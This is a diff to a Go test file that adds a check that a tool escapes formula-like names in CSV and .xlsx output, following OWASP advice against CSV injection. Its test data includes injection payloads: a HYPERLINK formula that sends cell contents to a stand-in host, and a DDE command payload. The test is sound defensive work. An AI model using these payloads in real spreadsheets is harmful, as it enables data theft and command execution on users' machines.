@@ -261,6 +261,33 @@ func TestOutputs(t *testing.T) {
 	}
 }
 
+// formulaNames are the names of testdata/formula-names.csv as they are read (a tab
+// around a cell goes): each but the last a spreadsheet would evaluate.
+var formulaNames = []string{`=HYPERLINK("http://x.example/?"&A1,"详情")`, `=cmd|' /C calc'!A0`, "+1+1", "-1+1", "@SUM(1,1)", "=1+1", "普通企业"}
+
+// TestFormulaLikeNames: names a spreadsheet would take for formulas stay text: a single
+// quote first in the CSV, as OWASP advises, and a string in the .xlsx.
+func TestFormulaLikeNames(t *testing.T) {
+	rows, _ := forecastRows(t, "", "testdata/formula-names.csv")
+	book := filepath.Join(t.TempDir(), "forecast.xlsx")
+	if code, _, stderr := assess(t, "", "-csv", "-o", book, "testdata/formula-names.csv"); code != 0 {
+		t.Fatal(stderr)
+	}
+	sheet := firstSheet(t, book)
+	for i, name := range formulaNames {
+		want := name
+		if i < len(formulaNames)-1 {
+			want = "'" + name
+		}
+		if got := rows[i+1][0]; got != want {
+			t.Errorf("CSV: %q, want %q", got, want)
+		}
+		if got := sheet[i+1][0]; got != name {
+			t.Errorf(".xlsx: %q, want %q", got, name)
+		}
+	}
+}
+
 // firstSheet reads a workbook's first sheet as the batch reads it, header and rows, each
 // number written alike: the workbook keeps 1175000.00 as 1175000.
 func firstSheet(t *testing.T, path string) [][]string {
